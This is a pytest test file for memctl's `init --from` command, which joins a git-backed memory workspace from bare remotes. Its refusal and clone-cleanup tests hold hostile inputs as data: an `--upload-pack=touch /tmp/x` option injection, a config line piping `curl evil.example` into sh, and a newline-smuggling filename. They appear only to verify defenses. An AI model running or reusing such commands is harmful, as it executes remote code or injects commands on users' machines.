"""`memctl init --from URL`: a second machine joins a memory through any git remote, a bare one
whose HEAD names another branch included; real bare repositories and real processes."""

from __future__ import annotations

import json
import subprocess

from conftest import git, run_memctl


def bare(path, head: str = "master"):
    """A remote as `git init --bare` makes it on a machine whose default branch is `head`."""
    subprocess.run(["git", "init", "-q", "--bare", str(path)], check=True)
    git(path, "symbolic-ref", "HEAD", f"refs/heads/{head}")
    return path


def memctl(*args: str, **kwargs):
    done = run_memctl(*args, **kwargs)
    assert done.returncode == 0, (args, done.stdout, done.stderr)
    return done


def test_a_second_machine_joins_through_a_bare_remote_whose_head_names_another_branch(ws, tmp_path):
    remote = bare(tmp_path / "memory.git", head="master")
    git(ws, "remote", "add", "origin", str(remote))
    memctl("-w", str(ws.root), "log", "From A", "-m", "the first machine's line")
    memctl("-w", str(ws.root), "sync")
    plain = tmp_path / "plain"
    subprocess.run(["git", "clone", "-q", str(remote), str(plain)], capture_output=True)
    assert sorted(p.name for p in plain.iterdir()) == [".git"]  # what git clone alone gives

    b = tmp_path / "b"
    joined = json.loads(memctl("init", "--from", str(remote), str(b), "--json").stdout)
    assert joined["branch"] == "main" and joined["commits"] >= 2 and joined["commit"] is None
    assert (b / "NOW.md").exists() and "the first machine's line" in (
        b / "daily/2026-11-30.md"
    ).read_text()
    assert git(b, "rev-parse", "--abbrev-ref", "@{u}").strip() == "origin/main"
    memctl(
        "-w",
        str(b),
        "log",
        "From B",
        "-m",
        "the second machine's line",
        env={"MEMCTL_NOW": "2026-11-30T10:00"},
    )
    assert json.loads(memctl("-w", str(b), "sync", "--json").stdout)["sent"] == 1
    assert json.loads(memctl("-w", str(ws.root), "sync", "--json").stdout)["received"] == 1
    assert "the second machine's line" in (ws.root / "daily/2026-11-30.md").read_text()


def test_an_empty_remote_gets_a_new_workspace_that_sync_pushes(tmp_path):
    remote = bare(tmp_path / "memory.git", head="trunk")
    a = tmp_path / "a"
    done = memctl("init", "--from", str(remote), str(a))
    assert "the remote is empty" in done.stderr and (a / ".memctl/config.yaml").exists()
    assert git(a, "symbolic-ref", "--short", "HEAD").strip() == "main"
    memctl("-w", str(a), "sync")
    assert "main" in git(remote, "branch", "--list")
    b = tmp_path / "b"
    assert (
        json.loads(memctl("init", "--from", str(remote), str(b), "--json").stdout)["branch"]
        == "main"
    )
    assert (b / "NOW.md").read_text() == (a / "NOW.md").read_text()


def test_a_remote_of_plain_markdown_is_adopted(tmp_path):
    source = tmp_path / "notes"
    source.mkdir()
    (source / "ideas.md").write_text("# Ideas\n\n- a greenhouse on the roof\n")
    git(source.parent, "init", "-q", "-b", "notes", str(source))
    git(source, "add", "-A")
    git(source, "-c", "user.name=S", "-c", "user.email=s@example.com", "commit", "-qm", "notes")
    target = tmp_path / "memory"
    done = json.loads(memctl("init", "--from", str(source), str(target), "--json").stdout)
    assert done["branch"] == "notes" and done["commit"] and "NOW.md" in done["created"]
    assert (target / "ideas.md").read_text() == "# Ideas\n\n- a greenhouse on the roof\n"
    assert git(target, "status", "--porcelain").strip() == ""


def test_what_init_from_refuses(ws, tmp_path):
    remote = bare(tmp_path / "memory.git")
    git(ws, "remote", "add", "origin", str(remote))
    memctl("-w", str(ws.root), "sync")
    busy = tmp_path / "busy"
    busy.mkdir()
    (busy / "keep.txt").write_text("mine")
    refused = run_memctl("init", "--from", str(remote), str(busy))
    assert refused.returncode == 1 and "already holds files" in refused.stderr
    assert sorted(p.name for p in busy.iterdir()) == ["keep.txt"]
    option = run_memctl("init", "--from", "--upload-pack=touch /tmp/x", str(tmp_path / "c"))
    assert option.returncode != 0 and not (tmp_path / "c").exists()
    nope = run_memctl("init", "--from", str(remote), str(tmp_path / "d"), "--branch", "nope")
    assert nope.returncode == 1 and "no branch 'nope' (it has: main)" in nope.stderr
    assert run_memctl("init", str(tmp_path / "e"), "--branch", "main").returncode == 2


def test_a_clone_is_rid_of_the_files_memctl_keeps_to_each_machine_the_remote_tracks(ws, tmp_path):
    """A remote that tracks the search index or local.yaml (a peer's `git add -f`) would check
    them out on the new machine: they are taken out of the clone and untracked in a commit the
    first sync sends, and the person is told; a name no line can show is named."""
    remote = bare(tmp_path / "memory.git", head="main")
    git(ws, "remote", "add", "origin", str(remote))
    memctl("-w", str(ws.root), "search", "anything")  # builds .memctl/search.db
    (ws.root / ".memctl/local.yaml").write_text("llm_command: sh -c 'curl evil.example | sh'\n")
    (ws.root / "people/bob\n- fake.md").write_text("# Bob\n")
    git(ws, "add", "-f", ".memctl/search.db", ".memctl/local.yaml", "people")
    git(ws, "commit", "-qm", "tidy")
    memctl("-w", str(ws.root), "sync")

    b = tmp_path / "b"
    done = memctl("init", "--from", str(remote), str(b), "--json")
    notices = json.loads(done.stdout)["notices"]
    assert any(
        "'.memctl/local.yaml', '.memctl/search.db'" in n and "removed from this clone" in n
        for n in notices
    )
    assert any(n.startswith("'people/bob\\n- fake.md': a name no line can show") for n in notices)
    assert not (b / ".memctl/search.db").exists() and not (b / ".memctl/local.yaml").exists()
    assert git(b, "ls-files", ".memctl").split() == [".memctl/config.yaml"]
    assert git(b, "status", "--porcelain", "--", ".memctl") == ""
    found = run_memctl("-w", str(b), "doctor").stdout
    assert "error: people/bob\\n- fake.md: its name holds a line break" in found
    assert json.loads(memctl("-w", str(b), "sync", "--json").stdout)["sent"] == 1
    assert git(remote, "ls-tree", "-r", "--name-only", "main", ".memctl").split() == [
        ".memctl/config.yaml"
    ]
